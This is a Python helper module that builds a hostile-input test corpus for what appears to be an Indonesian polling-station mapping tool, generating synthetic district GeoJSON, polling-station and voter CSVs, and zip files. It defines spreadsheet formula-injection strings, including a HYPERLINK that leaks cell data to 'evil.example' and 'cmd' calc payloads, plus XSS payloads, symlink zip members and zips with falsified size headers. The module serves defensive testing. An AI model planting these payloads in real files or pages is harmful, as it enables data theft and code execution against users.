"""Building blocks of the hostile-input corpus: the base data (four kelurahan of kecamatan Menteng, a TPS
list, a DPT of made-up people) and the file makers (GeoJSON, CSV, zip) the cases are built from.

Everything is deterministic: the same bytes on every run. The NIKs are valid synthetic ones, never real.
"""

from __future__ import annotations

import csv
import io
import json
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"
KELURAHAN = ("3171061001", "3171061002", "3171061003", "3171061004")
NAMES = ("MENTENG", "PEGANGSAAN", "CIKINI", "GONDANGDIA")
X0, Y0, STEP = 106.82, -6.20, 0.01
ZIP_TIME = (2024, 2, 14, 7, 0, 0)
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
INJECTIONS = (INJECTION, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
              "\t=1+1", "\r=1+1")
XSS = ("</title><script>alert('petatps-xss')</script>", '<img src=x onerror="alert(1)">',
       '"><svg/onload=alert(1)>')
TPS_HEADER = ["kode_tps", "kode_kel", "no_tps", "nama", "alamat", "rt", "rw", "dpt", "dpt_l", "dpt_p", "lat", "lon"]
DPT_HEADER = ["nik", "nkk", "nama", "jenis_kelamin", "tanggal_lahir", "alamat", "rt", "rw", "kode_kel", "tps"]
LARGE_LINE_BYTES = 10 * 1024 * 1024
# Made-up people: first and last names that never occur in addresses or area names.
FIRST = ("SITI", "BUDI", "DEWI", "AGUS", "RINA", "ANDI", "SRI", "JOKO", "WULAN", "HENDRA")
LAST = ("RAHAYU", "SANTOSO", "LESTARI", "SETIAWAN", "WATI", "PRATAMA", "MULYANI", "SUSANTO", "KURNIASIH", "HIDAYAT")


def square(i: int, j: int = 0, scale: float = 1.0) -> list:
    x, y = X0 + i * STEP, Y0 - j * STEP
    d = STEP * scale
    return [[[x, y], [x + d, y], [x + d, y + d], [x, y + d], [x, y]]]


def feature(props: dict, geometry: dict | None) -> dict:
    return {"type": "Feature", "properties": props, "geometry": geometry}


def polygon(rings: list) -> dict:
    return {"type": "Polygon", "coordinates": rings}


def collection(features: list, crs: str | None = None) -> bytes:
    doc = {"type": "FeatureCollection"}
    if crs:
        doc["crs"] = {"type": "name", "properties": {"name": crs}}
    doc["features"] = features
    return json.dumps(doc, ensure_ascii=False).encode("utf-8")


def kelurahan_features(transform: Callable[[list], list] = lambda rings: rings) -> list:
    return [feature({"kode": k, "nama": n, "kode_kec": k[:6], "kode_kab": k[:4]}, polygon(transform(square(i))))
            for i, (k, n) in enumerate(zip(KELURAHAN, NAMES))]


def nik(i: int, kec: str = "317106", female: bool = False) -> str:
    """A valid synthetic NIK: region + DDMMYY (women +40) + 4-digit serial."""
    day = 1 + i % 28 + (40 if female else 0)
    month = 1 + (i // 28) % 12
    return f"{kec}{day:02d}{month:02d}{70 + i % 30:02d}{1 + i % 9999:04d}"


def person(i: int) -> str:
    return f"{FIRST[i % len(FIRST)]} {LAST[(i // len(FIRST)) % len(LAST)]}"


def dpt_rows(n: int, start: int = 0) -> list[list[str]]:
    rows = []
    for i in range(start, start + n):
        female = i % 2 == 1
        n_ = nik(i, female=female)
        day, month, yy = int(n_[6:8]) - (40 if female else 0), n_[8:10], n_[10:12]
        kel = KELURAHAN[i % len(KELURAHAN)]
        rows.append([n_, f"317106{(i // 4) % 28 + 1:02d}0124{i // 4 % 9999 + 1:04d}", person(i),
                     "P" if female else "L", f"{day:02d}-{month}-19{yy}", f"JL. KENARI NO. {i % 200 + 1}",
                     str(i % 5 + 1), str(i % 3 + 1), kel, str(i % 2 + 1)])
    return rows


def tps_rows() -> list[list[str]]:
    rows = []
    for i, kel in enumerate(KELURAHAN):
        for no in (1, 2):
            x, y = X0 + i * STEP + 0.003 * no, Y0 + 0.004
            rows.append([f"{kel}{no:03d}", kel, str(no), f"TPS {no:03d}", f"Jl. Contoh No. {no}, RT 00{no}/RW 001",
                         str(no), "1", "250", "120", "130", f"{y:.6f}", f"{x:.6f}"])
    return rows


def csv_text(header: list[str], rows: list[list[str]], sep: str = ",", newline: str = "\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=sep, lineterminator=newline, quoting=csv.QUOTE_MINIMAL)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def zip_bytes(members: dict[str, bytes], *, symlinks: tuple[str, ...] = ()) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            if name in symlinks:
                info.external_attr = (0o120777 << 16)  # a symlink member (its data is the target path)
            zf.writestr(info, data)
    return buf.getvalue()


def shapefile_members() -> dict[str, bytes]:
    """A valid shapefile of the base kelurahan (bytes of .shp/.shx/.dbf/.prj), made with GDAL."""
    import tempfile

    import geopandas as gpd

    with tempfile.TemporaryDirectory() as tmp:
        frame = gpd.GeoDataFrame.from_features(json.loads(collection(kelurahan_features())), crs=4326)
        frame.to_file(Path(tmp) / "kel.shp", engine="pyogrio", ENCODING="UTF-8")
        return {p.name: p.read_bytes() for p in sorted(Path(tmp).iterdir())}


def lying_zip(members: dict[str, bytes], liar: str, declared: int) -> bytes:
    """A zip whose member ``liar`` declares ``declared`` bytes uncompressed (both headers patched)."""
    data = bytearray(zip_bytes(members))
    name = liar.encode()
    local = data.find(b"PK\x03\x04")
    while local != -1:
        n_len = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30: local + 30 + n_len] == name:
            struct.pack_into("<I", data, local + 22, declared)
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        n_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46: central + 46 + n_len] == name:
            struct.pack_into("<I", data, central + 24, declared)
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def rng_bytes(seed: int, n: int) -> bytes:
    return np.random.default_rng(seed).bytes(n)



def tps_file(rows=None, header=None, sep=",", newline="\n", encoding="utf-8", bom=False) -> bytes:
    text = csv_text(header or TPS_HEADER, tps_rows() if rows is None else rows, sep, newline)
    return (b"\xef\xbb\xbf" if bom else b"") + text.encode(encoding)


def dpt_file(rows=None, header=None, sep=",", newline="\n", encoding="utf-8", bom=False) -> bytes:
    text = csv_text(header or DPT_HEADER, dpt_rows(12) if rows is None else rows, sep, newline)
    return (b"\xef\xbb\xbf" if bom else b"") + text.encode(encoding)


def base_files(folder: str | Path) -> dict[str, Path]:
    """Write the clean base data (kelurahan, TPS list, DPT) the cases are loaded against."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    files = {"kelurahan": folder / "base_kelurahan.geojson", "tps": folder / "base_tps.csv",
             "dpt": folder / "base_dpt.csv"}
    files["kelurahan"].write_bytes(collection(kelurahan_features()))
    files["tps"].write_bytes(tps_file())
    files["dpt"].write_bytes(dpt_file(dpt_rows(40)))
    return files
